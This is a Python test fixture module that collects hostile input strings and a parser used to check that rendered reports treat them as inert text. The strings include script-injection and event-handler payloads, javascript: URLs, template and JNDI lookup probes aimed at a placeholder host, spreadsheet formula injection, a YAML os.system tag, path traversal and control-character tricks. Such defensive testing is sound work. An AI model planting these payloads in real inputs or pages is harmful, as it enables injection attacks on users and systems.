"""Text that handsets, files, names and people might send to whoever shows it, and how to tell that it stayed text.

Shared by the tests of every report. A page that shows such text must have the same elements and attributes as one
that shows harmless words (`marks`), and in a browser `window.hostile` must stay undefined: whatever would run says so.
"""

from __future__ import annotations

from collections.abc import Mapping
from html.parser import HTMLParser

_RUN = "window.hostile=1"

HOSTILE: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt\n>{_RUN}//</sCrIpT >",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a comment": f"--><script>{_RUN}</script><!--",
    "end of a style": f"</style></title></textarea><script>{_RUN}</script>",
    "end of CDATA": f"]]><script>{_RUN}</script><![CDATA[",
    "image": f'<img src=x onerror="{_RUN}">',
    "picture": f'<svg onload="{_RUN}"><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "handler after a quote": f'" onload="{_RUN}" autofocus onfocus=\'{_RUN}\' x="',
    "handler after an apostrophe": f"' onmouseover='{_RUN}' style='animation-name:x' onanimationstart='{_RUN}",
    "handler after a backtick": f"` onclick={_RUN} ${{{_RUN}}} `",
    "address": f"javascript:{_RUN}//",
    "address in disguise": f"jav\tascri\npt:{_RUN}//",
    "page in an address": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+#{_RUN}",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe><base href=//192.0.2.1/>",
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=//192.0.2.1/x.css>",
    "markdown": f'# [click](javascript:{_RUN}) ![x](x "onerror={_RUN}") <details open ontoggle={_RUN}>',
    "template": "{{7*7}} {% raw %} {{ ''.__class__.__mro__ }} <%= 7*7 %> #{7*7} ${7*7}",
    "look-up": "${jndi:ldap://192.0.2.1/x} %{(#a=1)} %s%n%x {0.__class__}",
    "formula": "=cmd|' /C calc'!A1",
    "other formulas": '+1+1 -1+1 @SUM(1) \t=1+1 \r=HYPERLINK("http://192.0.2.1")',
    "YAML": "!!python/object/apply:os.system ['id'] # &a *a {x: y}: - | >",
    "entities": "&lt;script&gt;&#60;b&#62;&amp;amp; &nbsp; &#x202e; &",
    "ANSI": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]8;;http://192.0.2.1\x1b\\link\x1b[6n\x9b31m",
    "bidirectional": "\u202egnp.exe\u202c \u2066\u2067hidden\u2069 \u200fright",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff\u00ad\u180e",
    "combining": "Z\u0335\u0321\u031b\u0353\u0300" * 8 + "\u0300" * 200,
    "control": "nul\x00 bell\x07 back\x08\x08\x08 feed\x0c line\u2028paragraph\u2029next\x85\x7f\x01\x1f",
    "half a pair": "\ud83d alone \udc00 \udfff\ud800",
    "paths": "../../../../etc/passwd /etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd %2e%2e%2f",
    "Windows name": 'CON . NUL.txt C:\\x:y|z?*<>" COM1',
    "long": "L" * 10_000,
    "lines": "first\nsecond\r\nthird\rfourth\n\n\n::error::workflow command\n##vso[task.complete]\n",
}
"""What it tries → the text; each must be shown (as far as it can be shown), and do nothing."""

ALL = "\n".join(HOSTILE.values())
"""All of it in one text."""

MISLEADING = "".join(map(chr, (*range(9), *range(14, 32), 0x7F, 0x9B, 0x202E, 0x2066, 0x2067, 0x2028, 0x2029)))
"""Letters that may not come into a page: they control, hide or reorder the text around them."""

NEVER = ("script", "iframe", "base", "link", "object", "embed", "form", "meta")
"""Elements that text may never bring into a page."""


class Markup(HTMLParser):
    """A page as a browser takes it apart: its elements, its attributes by element, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        """(element, attribute, value)."""
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def marks(self) -> frozenset[tuple[str, str]]:
        """(element, attribute) that occur, and (element, "") of each element: what text must not add to."""
        return frozenset({(tag, name) for tag, name, _ in self.attributes} | {(tag, "") for tag in self.elements})

    @property
    def addresses(self) -> tuple[str, ...]:
        """Where the page leads to, and what it loads."""
        leading = ("href", "src", "action", "formaction", "srcdoc", "xlink:href", "data", "poster", "background")
        return tuple(value for _, name, value in self.attributes if name in leading)


def runs(address: str) -> bool:
    """Whether an address runs a script, as browsers read it: without spaces, tabs and line ends."""
    plain = "".join(letter for letter in address if letter > " ").lower()
    return plain.startswith(("javascript:", "vbscript:", "data:text/html", "data:image/svg"))
